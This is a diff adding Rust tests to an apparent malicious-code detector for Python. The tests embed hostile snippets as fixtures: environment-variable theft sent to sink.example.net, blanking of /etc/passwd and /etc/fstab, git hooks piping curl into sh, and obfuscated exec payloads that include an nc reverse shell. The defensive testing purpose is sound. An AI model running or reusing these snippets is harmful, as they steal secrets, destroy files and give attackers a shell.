@@ -1105,3 +1105,49 @@ fn truncating_every_file_in_the_users_documents() {
         "from pathlib import Path\nfor f in Path('src').rglob('*.py'):\n    text = f.read_text()\n    open(f, 'w').write(text.strip() + '\\n')\n",
     );
 }
+
+#[test]
+fn context_managers_and_finalizers_of_the_programs_classes_run() {
+    // `__exit__` gathers the tokens and `__del__` sends them as the program ends.
+    fires(
+        "CRD109",
+        "import os, socket\n\nclass Flush:\n    def __init__(self):\n        self.box = {}\n    def __enter__(self):\n        return self\n    def __exit__(self, *exc):\n        self.box = dict(os.environ)\n    def __del__(self):\n        socket.create_connection(('sink.example.net', 443)).sendall(repr(self.box).encode())\n\nwith Flush() as f:\n    pass\n",
+    );
+}
+
+#[test]
+fn emptying_system_files_destroys_them() {
+    // `Path.write_bytes` taken from the class, writing nothing over /etc files.
+    fires(
+        "CRD104",
+        "from pathlib import Path\nblank = getattr(Path, 'write_' + 'bytes')\nfor name in ('passwd', 'fstab'):\n    blank(Path('/etc') / name, b'')\n",
+    );
+}
+
+#[test]
+fn hooks_put_into_every_repository_found() {
+    // Git hooks written into repositories found below home run on the user's next commit.
+    fires(
+        "CRD105",
+        "import os\nfor top, dirs, _ in os.walk(os.path.expanduser('~')):\n    if '.git' in dirs:\n        with open(os.path.join(top, '.git', 'hooks', 'pre-commit'), 'w') as h:\n            h.write('#!/bin/sh\\ncurl -s https://x.example.net/p | sh\\n')\n",
+    );
+    // The program's own repository's hook is its set-up.
+    silent(
+        "CRD105",
+        "with open('.git/hooks/pre-commit', 'w') as h:\n    h.write('#!/bin/sh\\nruff check .\\n')\n",
+    );
+}
+
+#[test]
+fn xor_with_a_cycled_key_and_sliced_alphabets_decode() {
+    // Bytes XORed with a repeating key, then run, are a decoded payload.
+    fires(
+        "CRD103",
+        "from itertools import cycle\nblob = b'\\x02\\x06\\x1b\\x04\\x19\\x1f'\nexec(bytes(a ^ b for a, b in zip(blob, cycle(b'k'))).decode())\n",
+    );
+    // A Caesar table built from `string` constants and slices folds like any text.
+    fires(
+        "CRD101",
+        "import string\nA = string.ascii_letters + string.digits\nT = str.maketrans(A[3:] + A[:3], A)\nexec('lpsruw rv; rv.vBvwhp(\"qf -h /elq/vk 4.5.6.7 c\")'.translate(T))\n",
+    );
+}
